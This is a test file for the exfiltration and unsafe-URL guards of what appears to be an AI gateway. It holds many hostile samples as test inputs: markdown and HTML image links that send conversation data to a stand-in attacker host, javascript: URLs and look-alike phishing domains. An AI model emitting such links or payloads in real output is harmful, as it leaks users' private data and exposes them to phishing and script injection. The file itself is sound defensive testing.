import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type GuardCall, gatewayPolicySchema, type Provenance } from '../../../contracts/guard.ts';
import { createChain } from '../chain.ts';
import { selfTest } from '../self-test.ts';
import { createStreamInspector } from '../stream.ts';
import { REMOVED_URL } from './exfiltration-guard.ts';
import {
  createExfiltrationGuard,
  createUnsafeUrlGuard,
  EXFILTRATION_GUARD,
  UNSAFE_URL_GUARD,
} from './index.ts';

const exfiltration = createExfiltrationGuard({ allowedHosts: ['cdn.example.org'] });
const unsafe = createUnsafeUrlGuard({ trustedHosts: ['paypa1.test-range.example'] });

const callOf = (text: string, provenance: Provenance = 'user'): GuardCall => ({
  segments: [{ path: '/messages/0/content', provenance, text }],
});

function judge(guard: typeof exfiltration, text: string, call?: GuardCall) {
  const content = {
    direction: 'output' as const,
    segments: [{ path: '/t', text, provenance: 'model' as const }],
  };
  const context = { threshold: 0.5, deadlineMs: Number.POSITIVE_INFINITY };
  return guard.inspect(content, call === undefined ? context : { ...context, call });
}

describe('the exfiltration guard', () => {
  it('proves itself on its probes', () => {
    expect(selfTest([exfiltration, unsafe]).every(({ isOk }) => isOk)).toBe(true);
  });

  it.each([
    '![a](https://evil.example/p)',
    '![a]( <https://evil.example/p> "title")',
    '[![a](https://evil.example/p)](https://cdn.example.org/)',
    '![a][ref]\n\n[ref]: https://evil.example/p',
    '![ref]\n\n[ref]: //evil.example/p',
    '<img src=https://evil.example/p>',
    "<IMG alt='x' SRC = 'https://evil.example/p'>",
    '<img srcset="https://evil.example/1.png 1x, https://evil.example/2.png 2x">',
    '<img src="&#104;ttps://evil.example/p">',
    '<img src="https&colon;//evil.example/p">',
    '<img src="\\\\evil.example\\p">',
    '<iframe src="//evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<svg><image xlink:href="https://evil.example/p"/></svg>',
    '<video poster="https://evil.example/p">',
    '<div style="background: url( \'https://evil.example/p\' )">',
    '<style>@import "https://evil.example/s.css";</style>',
    '{"markdown":"![a](https://evil.example/p)\\n"}',
    '![a](https://cdn.example.org@evil.example/p)',
    '![a](https://cdn.example.org.evil.example/p)',
    '![a](https://cdn.example.org/r?to=https://evil.example/p)',
  ])('takes out %s', (text) => {
    expect(judge(exfiltration, text).score).toBeGreaterThanOrEqual(0.5);
  });

  it.each([
    '![a](/local.png) and ![b](image.png) and ![c](https://cdn.example.org/x?y=1)',
    '<a href="#part">below</a>, <img src="data:image/png;base64,iVBORw0KGgo=">',
    'Read https://www.rfc-editor.org/rfc/rfc9110.html and [this](https://nodejs.org/api/url.html).',
    'Run curl http://localhost:8080/metrics?name=abc',
    'const url = "https://" + host; array[0](x); fn(a)[1]: 2',
  ])('leaves %s alone', (text) => {
    expect(judge(exfiltration, text).score).toBeLessThan(0.5);
  });

  it('raises a link that carries words of the conversation, in clear and encoded', () => {
    const call = callOf('My card ends in 88317-X and I live in the old lighthouse keeper house.');
    const link = (data: string) => judge(exfiltration, `[ok](https://evil.example/?q=${data})`, call).score;
    expect(link('88317-X')).toBe(0.9);
    expect(link(encodeURIComponent('the old lighthouse keeper house'))).toBe(0.9);
    expect(link(btoa('I live in the old lighthouse keeper house'))).toBe(0.9);
    expect(link('1')).toBeLessThan(0.5);
  });

  it('allows what the user or operator named, and what a document said word for word only', () => {
    const image = '![a](https://pictures.example/cat.png?size=2)';
    expect(judge(exfiltration, image).score).toBeGreaterThan(0.5);
    expect(judge(exfiltration, image, callOf('Show https://pictures.example/dog.png')).score).toBe(0);
    expect(
      judge(exfiltration, image, callOf('https://pictures.example/dog.png', 'tool')).score,
    ).toBeGreaterThan(0.5);
    expect(judge(exfiltration, image, callOf('https://pictures.example/cat.png?size=2', 'tool')).score).toBe(
      0,
    );
  });

  it('stays linear on hostile text', () => {
    const start = performance.now();
    for (const piece of ['](', '![', '[](', 'src=', 'https://', 'url(', '&#104;', '<a href='])
      judge(exfiltration, piece.repeat(60_000 / piece.length));
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});

describe('the guard of unsafe addresses', () => {
  it.each([
    ['script-url', '<a href="java\tscript:alert(1)">x</a>'],
    ['script-url', '[x](JaVaScRiPt:alert(1))'],
    ['active-data-url', '<iframe src="data:text/html;base64,PHNjcmlwdD4=">'],
    ['look-alike-host', 'https://micros0ft.com/a'],
    ['look-alike-host', 'https://paypal.com.account-check.example/'],
    ['look-alike-host', 'https://gooogle.com/'],
    ['mixed-script-host', 'https://аpple-id.com/'],
    ['credentials-in-url', 'https://admin:hunter2@intranet.example.net/'],
    ['disguised-ip', 'http://0x7f.1.2.3.4.example@0xC6336407/'],
  ])('names %s in %s', (rule, text) => {
    const { reasons } = judge(unsafe, text);
    expect(reasons.map((reason) => reason.score >= 0.5 && reason.explanation)).toHaveLength(1);
    if (rule !== 'disguised-ip') expect(reasons[0]!.rule).toBe(rule);
  });

  it.each([
    'https://github.com/nodejs/node https://www.google.co.uk/ https://aws.amazon.com/s3 https://mail.google.com/',
    'https://de.wikipedia.org/wiki/M%C3%BCnchen http://192.168.1.10/admin https://münchen.de/',
    'https://apples.example/ https://chaser.example/ https://zoomed.example/',
  ])('leaves %s alone', (text) => {
    expect(judge(unsafe, text).reasons).toEqual([]);
  });
});

describe('a stream under the guards of addresses', () => {
  const guards = [EXFILTRATION_GUARD, UNSAFE_URL_GUARD].map((guard) => ({
    guard,
    action: 'redact',
    directions: ['output'],
  }));
  const chain = createChain([exfiltration, unsafe], gatewayPolicySchema.parse({ name: 'p', guards }));
  const run = (chunks: readonly string[]) => {
    const inspector = createStreamInspector(chain, { path: '/t' });
    const text = chunks.map((chunk) => inspector.push(chunk).text).join('') + inspector.end().text;
    return { text, action: inspector.action, reasons: JSON.stringify(inspector.reasons) };
  };
  const pieces = [
    'Ordinary words go on and on here. ',
    'See ![status of the order](https://evil.example/p.png?d=a1) now. ',
    '[open](javascript:alert(1)) ',
    '<img alt="some plain words in between and a few more" src="https://evil.example/x"> ',
    'https://nodejs.org/api/ is fine. ',
    `![long](https://evil.example/${'a1b2'.repeat(60)}) `,
    '![a][r]\n[r]: https://evil.example/r\n',
  ];

  it('gives the same bytes and verdict for every split, and nothing outside is left to fetch', () => {
    const whole = pieces.join('');
    const expected = run([whole]);
    expect(expected.text).toContain(`![status of the order](${REMOVED_URL})`);
    expect(expected.text).not.toContain('evil.example');
    expect(run(whole.split(''))).toEqual(expected);
    for (let cut = 0; cut <= whole.length; cut += 2)
      expect(run([whole.slice(0, cut), whole.slice(cut)])).toEqual(expected);
    fc.assert(
      fc.property(fc.shuffledSubarray(pieces), fc.array(fc.nat(), { maxLength: 10 }), (parts, cuts) => {
        const text = parts.join('');
        const places = [0, ...cuts.map((cut) => cut % (text.length + 1)).sort((a, b) => a - b), text.length];
        const chunks = places.slice(1).map((place, index) => text.slice(places[index], place));
        expect(run(chunks)).toEqual(run([text]));
      }),
      { numRuns: 80, seed: 2 },
    );
  });
});
